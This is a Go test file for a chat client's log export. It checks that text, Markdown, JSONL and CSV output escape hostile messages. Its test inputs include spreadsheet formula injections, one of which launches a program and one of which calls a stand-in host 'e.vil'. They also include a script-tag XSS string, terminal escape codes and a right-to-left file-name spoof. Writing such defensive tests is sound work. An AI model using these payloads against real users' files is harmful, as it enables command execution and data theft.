package line

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"parley/room"
)

// nasty is what somebody may say who knows that it is exported.
var nasty = []string{
	"hi", "two\nlines", "\x1b[31mred", "=1+1", "+SUM(A1)", "-2", "@cmd", "\tx", " =1", "＝1", "a,b \"c\"", "# no heading", "[x](http://e.vil) ![i](j)",
	"<script>alert(1)</script>", "*b* _i_ `c` ~~s~~ | t |", "1. one", "a\n- b\n# c", "\u202egnp.exe", "&amp;", "",
}

func exported(t *testing.T, name string, events ...room.Event) string {
	t.Helper()
	file := filepath.Join(t.TempDir(), name)
	n, err := Export(file, "physics", time.UTC, func(put func(room.Event) error, divide func(string) error) error {
		for _, e := range events {
			if err := put(e); err != nil {
				return err
			}
		}
		return divide("another log")
	})
	if err != nil || n != len(events) {
		t.Fatalf("%d, %v", n, err)
	}
	info, err := os.Stat(file)
	if err != nil || info.Mode().Perm() != 0o600 && runtime.GOOS != "windows" {
		t.Errorf("%v, %v", info.Mode(), err)
	}
	content, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(filepath.Dir(file)); len(left) != 1 {
		t.Errorf("%d files are there", len(left))
	}
	return string(content)
}

func everything() (events []room.Event) {
	for i, s := range nasty {
		e := said("ben", s)
		e.Seq, e.Replay = uint64(i+1), true
		events = append(events, e)
	}
	return append(events, room.Event{Type: room.Joined, Nick: "cyn", At: noon}, room.Event{Type: room.Act, From: "=ben", Text: "waves", At: noon},
		room.Event{Type: room.Whisper, From: "ben", To: "ana", Text: "psst", At: noon}, room.Event{Type: room.Left, Nick: "cyn", Reason: "lost", At: noon})
}

func TestExportText(t *testing.T) {
	got := exported(t, "x.txt", everything()...)
	for _, want := range []string{"physics\n\n2026-11-22 12:00:00  ben: hi\n2026-11-22 12:00:00  ben: two\n                     | lines\n",
		"ben: ␛[31mred\n", "  --> cyn joined\n", "  ** =ben waves\n", "  [ben → ana] psst\n", "--- another log ---"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in:\n%s", want, got)
		}
	}
	if strings.ContainsAny(got, "\x1b\u202e") {
		t.Errorf("a terminal would obey:\n%q", got)
	}
}

func TestExportMarkdown(t *testing.T) {
	got := exported(t, "x.md", everything()...)
	for line := range strings.Lines(got) {
		if line != "\n" && !strings.HasPrefix(line, "- 12:00 ") && !strings.HasPrefix(line, "  ") && !strings.HasPrefix(line, "# physics") &&
			!strings.HasPrefix(line, "## Sunday") && line != "---\n" && line != "*another log*\n" {
			t.Errorf("a line of its own: %q", line)
		}
	}
	for _, want := range []string{"- 12:00 **ben**: hi\n", `\<script\>`, `\[x\](http\:`, `\# no heading`, "1\\. one", "  \n  \\- b  \n  \\# c\n", "- 12:00 cyn joined\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in:\n%s", want, got)
		}
	}
	if strings.ContainsAny(got, "\x1b\u202e") {
		t.Errorf("a terminal would obey:\n%q", got)
	}
}

func TestExportObjects(t *testing.T) {
	all := everything()
	lines := strings.Split(strings.TrimSpace(exported(t, "x.JSONL", all...)), "\n")
	if len(lines) != len(all)+1 {
		t.Fatalf("%d lines", len(lines))
	}
	for i, l := range lines[:len(all)] {
		var e room.Event
		if err := json.Unmarshal([]byte(l), &e); err != nil || e.Text != all[i].Text || e.Type != all[i].Type {
			t.Errorf("%s: %v", l, err)
		}
	}
}

func TestExportTable(t *testing.T) {
	all := everything()
	rows, err := csv.NewReader(strings.NewReader(exported(t, "x.csv", all...))).ReadAll()
	if err != nil || len(rows) != len(all)+2 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows[1:] {
		for _, c := range row {
			if s := strings.TrimLeft(c, " "); s != "" && strings.ContainsAny(s[:1], "=+-@\t\r") || strings.ContainsAny(c, "\x1b") {
				t.Errorf("a formula: %q", c)
			}
		}
		if i < len(all) && !strings.Contains(row[7], strings.ReplaceAll(all[i].Text, "\x1b", "␛")) {
			t.Errorf("%q is %q", all[i].Text, row[7])
		}
	}
}

// Programs that separate cells by something else than commas find no formula either.
func TestExportTableOfOtherSeparators(t *testing.T) {
	for _, c := range []struct{ said, want string }{
		{"hi;=cmd|' /C calc'!A0;", "hi;'=cmd|' /C calc'!A0;"},
		{"hi; =1", "hi;' =1"},
		{"hi;\"=1&", "hi;'\"=1&"},
		{"hi\n=1\n@SUM(1)", "hi\n'=1\n'@SUM(1)"},
		{"hi\t+WEBSERVICE(1)", "hi\t'+WEBSERVICE(1)"},
		{"hi;;-2+cmd|x!A0", "hi;;'-2+cmd|x!A0"},
		{"hi;＝1", "hi;'＝1"},
		{"hi;+'http://e.vil/x'#$a.A1", "hi;'+'http://e.vil/x'#$a.A1"},
		{"fine ;-) and a; - b = c", "fine ;-) and a; - b = c"},
		{"=1;=1", "'=1;'=1"},
		{"\t=1", "'\t'=1"},
		{"", ""},
	} {
		if got := cell(c.said); got != c.want {
			t.Errorf("%q is %q, want %q", c.said, got, c.want)
		}
	}
}

func TestExportIsAllOrNothing(t *testing.T) {
	dir := t.TempDir()
	taken := filepath.Join(dir, "taken.txt")
	os.WriteFile(taken, []byte("mine"), 0o600)
	fine := func(put func(room.Event) error, _ func(string) error) error { return put(said("ben", "hi")) }
	for _, c := range []struct {
		file string
		each func(func(room.Event) error, func(string) error) error
	}{
		{taken, fine},
		{filepath.Join(dir, "x.exe"), fine},
		{filepath.Join(dir, "no", "x.txt"), fine},
		{filepath.Join(dir, "half.txt"), func(put func(room.Event) error, _ func(string) error) error {
			put(said("ben", "hi"))
			return errors.New("the host is gone")
		}},
		{filepath.Join(dir, "late.txt"), func(put func(room.Event) error, _ func(string) error) error {
			return errors.Join(put(said("ben", "hi")), os.WriteFile(filepath.Join(dir, "late.txt"), []byte("mine"), 0o600))
		}},
	} {
		if n, err := Export(c.file, "physics", time.UTC, c.each); !errors.Is(err, ErrExport) || n != 0 {
			t.Errorf("%s: %d, %v", c.file, n, err)
		}
	}
	left, _ := os.ReadDir(dir)
	for _, f := range left {
		if content, _ := os.ReadFile(filepath.Join(dir, f.Name())); string(content) != "mine" {
			t.Errorf("%s is left, with %q", f.Name(), content)
		}
	}
	if len(left) != 2 {
		t.Errorf("%d files", len(left))
	}
}

func FuzzExport(f *testing.F) {
	for _, s := range nasty {
		f.Add("ben", s)
	}
	f.Fuzz(func(t *testing.T, from, said string) {
		for _, c := range []string{cell(said), cell(from)} {
			if s := strings.TrimLeft(c, " "); s != "" && strings.ContainsAny(s[:1], "=+-@\t\r") {
				t.Errorf("a formula: %q", c)
			}
		}
		var b strings.Builder
		for _, form := range []string{".txt", ".md"} {
			x := exportFormats[form](&b, from, time.UTC)
			x.event(room.Event{Type: room.Message, From: from, Text: said, At: noon})
			x.end()
		}
		for line := range strings.Lines(b.String()) {
			for _, r := range strings.TrimSuffix(line, "\n") {
				if r < 0x20 || 0x7f <= r && r < 0xa0 || 0x202a <= r && r <= 0x202e {
					t.Fatalf("%q has %U", line, r)
				}
			}
		}
	})
}

func TestViewOfFound(t *testing.T) {
	var out []string
	v := newView(&out)
	expect := func(want ...string) {
		t.Helper()
		if strings.Join(out, "|") != strings.Join(want, "|") {
			t.Errorf("got  %q\nwant %q", out, want)
		}
		out = nil
	}
	v.show(said("ben", "now"), noon)
	expect("12:00 ben: now")
	old := said("ben", "ana, the lens")
	old.Replay, old.At = true, noon.Add(-26*time.Hour)
	v.ring = func() { t.Error("it rings for what was said earlier") }
	v.show(room.Event{Type: room.Found, Code: "search", Text: "lens", Count: 1, Events: []room.Event{old}, State: "copy", Why: "more"}, noon)
	expect("* the host is not connected: this is from your own copy", `--- said with "lens" ---`, "--- Saturday, 21 November 2026 ---",
		"10:00 ben: ana, the lens", "--- there is more: /search alone shows what is older ---")
	v.show(said("ben", "again"), noon)
	expect("12:00 ben: again")
	v.show(room.Event{Type: room.Found, Code: "search", Text: "x\x1b", State: "host"}, noon)
	expect(`* nothing was said with "x␛"`)
	v.show(room.Event{Type: room.Found, Code: "lastlog", State: "host"}, noon)
	expect("* nothing was said here yet")
	v.show(room.Event{Type: room.Pending, Text: "hi"}, noon)
	v.show(room.Event{Type: room.Delivered, Seq: 7, Count: 1, Of: 3}, noon)
	expect()
	v.show(room.Event{Type: room.Delivered, Seq: 7, Count: 1, Of: 3, State: "asked"}, noon)
	expect("err 12:00 * message 7: delivered to 1 of 3 so far")
}

// A file is called what whoever typed it calls it, and is there only if something is
// in it.
func TestExportNothing(t *testing.T) {
	dir := t.TempDir()
	nothing := func(func(room.Event) error, func(string) error) error { return nil }
	if n, err := Export(filepath.Join(dir, "x.md"), "physics", time.UTC, nothing); n != 0 || err != nil {
		t.Error(n, err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("left: %v", left)
	}
	_, err := Export(filepath.Join(dir, "none", "x.md"), "physics", time.UTC, nothing)
	if !errors.Is(err, ErrExport) || !strings.HasSuffix(err.Error(), "x.md: there is no such directory") {
		t.Error(err)
	}
}
